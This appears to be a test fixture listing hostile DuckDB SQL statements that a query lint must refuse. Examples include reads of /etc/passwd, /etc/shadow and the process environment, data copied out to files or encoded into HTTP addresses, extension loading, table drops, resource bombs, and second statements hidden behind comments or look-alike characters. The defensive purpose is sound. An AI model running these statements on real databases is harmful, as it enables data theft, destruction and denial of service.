-- Hostile texts, one a paragraph after its name. Each must be refused by the lint, and harmless if the lint were off.
-- copy out
COPY (SELECT 1) TO '{outside}/stolen.csv'
-- copy out parquet
COPY reading TO '{outside}/stolen.parquet' (FORMAT parquet)
-- copy table in
COPY reading FROM '/etc/passwd'
-- copy over a file of the mart
COPY (SELECT 1 AS a) TO '{mart}/reading.parquet' (FORMAT parquet)
-- copy database
COPY FROM DATABASE memory TO other
-- export database
EXPORT DATABASE '{outside}/all'
-- import database
IMPORT DATABASE '{outside}/all'
-- attach file
ATTACH '{outside}/new.duckdb' AS evil
-- attach memory
ATTACH ':memory:' AS evil
-- attach sqlite
ATTACH '{mart}/catalog.sqlite' AS c (TYPE sqlite)
-- attach http
ATTACH 'http://127.0.0.1:{port}/x.duckdb' AS evil
-- detach
DETACH memory
-- use
USE memory.information_schema
-- explain analyze copy
EXPLAIN ANALYZE COPY (SELECT 1) TO '{outside}/explained.csv'
-- explain
EXPLAIN SELECT mp_id FROM reading
-- read csv
SELECT * FROM read_csv('/etc/passwd')
-- read csv auto
SELECT * FROM read_csv_auto('/etc/passwd')
-- read text
SELECT content FROM read_text('/etc/passwd')
-- read blob
SELECT content FROM read_blob('/etc/shadow')
-- read environment
SELECT content FROM read_text('/proc/self/environ')
-- read json
SELECT * FROM read_json('/etc/passwd')
-- read json objects
SELECT * FROM read_json_objects('/etc/passwd')
-- read ndjson
SELECT * FROM read_ndjson('/etc/passwd')
-- read parquet
SELECT * FROM read_parquet('{mart}/reading.parquet')
-- parquet scan
SELECT * FROM parquet_scan('{mart}/reading.parquet')
-- parquet metadata
SELECT * FROM parquet_metadata('{mart}/reading.parquet')
-- parquet schema
SELECT * FROM parquet_schema('{mart}/reading.parquet')
-- parquet file metadata
SELECT * FROM parquet_file_metadata('{mart}/reading.parquet')
-- parquet bloom probe
SELECT * FROM parquet_bloom_probe('{mart}/reading.parquet', 'mp_id', 'x')
-- sniff csv
SELECT * FROM sniff_csv('/etc/passwd')
-- glob
SELECT * FROM glob('/etc/*')
-- file as table
SELECT * FROM '/etc/passwd'
-- file as table parquet
SELECT * FROM '{mart}/reading.parquet'
-- file as table quoted
SELECT * FROM "{mart}/reading.parquet"
-- http as table
SELECT * FROM 'http://127.0.0.1:{port}/leak.csv'
-- http read
SELECT * FROM read_csv('http://127.0.0.1:{port}/leak.csv')
-- https read
SELECT * FROM read_parquet('https://127.0.0.1:{port}/leak.parquet')
-- s3 read
SELECT * FROM read_parquet('s3://bucket/leak.parquet')
-- data in the address
SELECT * FROM read_csv('http://127.0.0.1:{port}/' || (SELECT max(mp_id) FROM reading))
-- install
INSTALL httpfs
-- install from
INSTALL httpfs FROM 'http://127.0.0.1:{port}'
-- force install
FORCE INSTALL spatial
-- load
LOAD httpfs
-- load path
LOAD '{outside}/evil.duckdb_extension'
-- update extensions
UPDATE EXTENSIONS
-- set memory
SET memory_limit = '100GB'
-- set threads
SET threads = 64
-- set external access
SET enable_external_access = true
-- set lock
SET lock_configuration = false
-- set global
SET GLOBAL enable_external_access = true
-- set session
SET SESSION temp_directory = '{outside}'
-- reset
RESET memory_limit
-- reset lock
RESET lock_configuration
-- pragma memory
PRAGMA memory_limit='100GB'
-- pragma version
PRAGMA version
-- pragma database list
PRAGMA database_list
-- pragma table info
PRAGMA table_info('reading')
-- pragma profiling
PRAGMA enable_profiling
-- call
CALL pragma_version()
-- call force checkpoint
CALL force_checkpoint()
-- checkpoint
CHECKPOINT
-- set variable
SET VARIABLE secret = 1
-- get variable
SELECT getvariable('secret')
-- query function
SELECT * FROM query('SELECT 1')
-- query table function
SELECT * FROM query_table('reading')
-- secrets
SELECT * FROM duckdb_secrets()
-- create secret
CREATE SECRET s (TYPE http, BEARER_TOKEN 'x')
-- drop secret
DROP SECRET s
-- settings
SELECT * FROM duckdb_settings()
-- current setting
SELECT current_setting('temp_directory')
-- views
SELECT sql FROM duckdb_views()
-- tables
SELECT * FROM duckdb_tables()
-- columns
SELECT * FROM duckdb_columns()
-- functions
SELECT * FROM duckdb_functions()
-- databases
SELECT * FROM duckdb_databases()
-- temporary files
SELECT * FROM duckdb_temporary_files()
-- memory
SELECT * FROM duckdb_memory()
-- logs
SELECT * FROM duckdb_logs
-- extensions
SELECT * FROM duckdb_extensions()
-- information schema
SELECT * FROM information_schema.tables
-- information schema columns
SELECT table_name FROM information_schema.columns
-- pg catalog
SELECT * FROM pg_catalog.pg_class
-- sqlite master
SELECT * FROM sqlite_master
-- storage info
SELECT * FROM pragma_storage_info('reading')
-- create table
CREATE TABLE loot AS SELECT * FROM reading
-- create temp table
CREATE TEMP TABLE loot AS SELECT 1 AS a
-- create or replace
CREATE OR REPLACE TABLE reading AS SELECT 1 AS a
-- create view
CREATE VIEW v AS SELECT 1 AS a
-- create or replace view
CREATE OR REPLACE VIEW reading AS SELECT 1 AS a
-- create schema
CREATE SCHEMA evil
-- create sequence
CREATE SEQUENCE s
-- create type
CREATE TYPE mood AS ENUM ('a')
-- create index
CREATE INDEX i ON reading (mp_id)
-- create macro
CREATE MACRO abs(x) AS 0
-- create table macro
CREATE MACRO t() AS TABLE SELECT 1
-- create function
CREATE FUNCTION f(x) AS x + 1
-- drop view
DROP VIEW reading
-- drop table
DROP TABLE IF EXISTS reading
-- alter
ALTER TABLE reading ADD COLUMN x INT
-- rename
ALTER VIEW reading RENAME TO other
-- comment on
COMMENT ON TABLE reading IS 'x'
-- insert
INSERT INTO reading VALUES ('a')
-- update
UPDATE reading SET value = 0
-- delete
DELETE FROM reading
-- merge into
MERGE INTO reading USING customer ON true WHEN MATCHED THEN DELETE
-- truncate
TRUNCATE reading
-- vacuum
VACUUM
-- analyze
ANALYZE
-- begin
BEGIN TRANSACTION
-- commit
COMMIT
-- prepare
PREPARE p AS SELECT 1
-- execute
EXECUTE p
-- deallocate
DEALLOCATE p
-- two statements
SELECT mp_id FROM reading; SELECT 1
-- statement after comment
SELECT mp_id FROM reading; -- x
DROP VIEW reading
-- statement hidden in comment
SELECT mp_id FROM reading /* ; */ ; COPY (SELECT 1) TO '{outside}/hidden.csv'
-- describe
DESCRIBE reading
-- summarize
SUMMARIZE reading
-- show
SHOW TABLES
-- show all
SHOW ALL TABLES
-- pivot
PIVOT reading ON register USING sum(value)
-- unpivot
UNPIVOT reading ON value INTO NAME n VALUE v
-- values
VALUES (1), (2)
-- table statement
TABLE reading
-- from first
FROM reading
-- from function
FROM range(10)
-- range table
SELECT * FROM range(1000000000000)
-- generate series
SELECT * FROM generate_series(1, 1000000000000)
-- range list
SELECT unnest(range(10000000000)) AS x
-- repeat row
SELECT * FROM repeat_row(1, num_rows = 1000000000000)
-- repeat text
SELECT repeat('x', 2000000000) AS x FROM reading
-- repeat many
SELECT repeat(repeat('x', 100000), 100000) AS x FROM reading AS a CROSS JOIN reading AS b
-- recursion
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT n FROM r
-- recursion using key
WITH RECURSIVE r(n) USING KEY (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT n FROM r
-- list bomb
SELECT list(mp_id) AS x FROM reading
-- string bomb
SELECT string_agg(repeat(mp_id, 1000000), '') AS x FROM reading
-- histogram
SELECT histogram(value) AS x FROM reading
-- lambda
SELECT list_transform([1, 2], x -> x + 1) AS x
-- comprehension
SELECT [x + 1 FOR x IN [1, 2]] AS y
-- lateral
SELECT r.mp_id, s.v FROM reading AS r, LATERAL (SELECT r.value AS v) AS s
-- positional join
SELECT r.mp_id FROM reading AS r POSITIONAL JOIN customer AS c
-- asof join
SELECT r.mp_id FROM reading AS r ASOF JOIN reading AS s ON r.mp_id = s.mp_id AND r.bill_month >= s.bill_month
-- full join
SELECT r.mp_id FROM reading AS r FULL JOIN customer AS c ON r.mp_id = c.customer_no
-- natural join
SELECT r.mp_id FROM reading AS r NATURAL JOIN reading AS s
-- sample
SELECT mp_id FROM reading USING SAMPLE 10 PERCENT
-- tablesample
SELECT mp_id FROM reading TABLESAMPLE 10 PERCENT
-- regexp
SELECT mp_id FROM reading WHERE regexp_matches(mp_id, '(a+)+$')
-- similar to
SELECT mp_id FROM reading WHERE mp_id SIMILAR TO '(a+)+'
-- random
SELECT mp_id FROM reading WHERE random() < 0
-- now
SELECT now() AS t FROM reading
-- current date
SELECT current_date AS t FROM reading
-- current user
SELECT current_user AS t FROM reading
-- current schema
SELECT current_schema() AS t FROM reading
-- version function
SELECT version() AS t FROM reading
-- getenv
SELECT getenv('HOME') AS t FROM reading
-- sleep
SELECT sleep_ms(100000) AS t FROM reading
-- error function
SELECT error('x') AS t FROM reading
-- nextval
SELECT nextval('s') AS t FROM reading
-- write log
SELECT write_log('x') AS t FROM reading
-- stats
SELECT stats(value) AS t FROM reading
-- txid
SELECT txid_current() AS t FROM reading
-- python variable
SELECT * FROM job
-- undeclared table
SELECT receipt_id FROM receipt
-- another schema
SELECT mp_id FROM memory.main.reading
-- unicode look-alike
SELECT mp_id FROM reаding
-- full-width semicolon
SELECT mp_id FROM reading； DROP VIEW reading
-- null byte
SELECT mp_id FROM reading {nul}
-- unknown column
SELECT password FROM reading
-- columns expression
SELECT COLUMNS('.*') FROM reading
-- star replace
SELECT * REPLACE (0 AS value) FROM reading
-- star at the top
SELECT * FROM reading
-- qualified star at the top
SELECT r.* FROM reading AS r
-- double
SELECT CAST(value AS DOUBLE) AS x FROM reading
-- division
SELECT value / 2 AS x FROM reading
-- average
SELECT avg(value) AS x FROM reading
-- power
SELECT pow(value, 2) AS x FROM reading
-- struct
SELECT {{'a': mp_id}} AS x FROM reading
-- map
SELECT MAP {{'a': 1}} AS x FROM reading
-- json path
SELECT mp_id -> '$.a' AS x FROM reading
-- collate
SELECT mp_id COLLATE NOCASE AS x FROM reading
-- cast to type of other
SELECT CAST(mp_id AS JSON) AS x FROM reading
-- for update
SELECT mp_id FROM reading FOR UPDATE
-- into
SELECT mp_id INTO loot FROM reading
-- hide a table
WITH reading AS (SELECT 'x' AS mp_id) SELECT mp_id FROM reading
-- cte writes
WITH x AS (DELETE FROM reading RETURNING *) SELECT mp_id FROM x
-- deep brackets
{deep}
-- long text
{long}
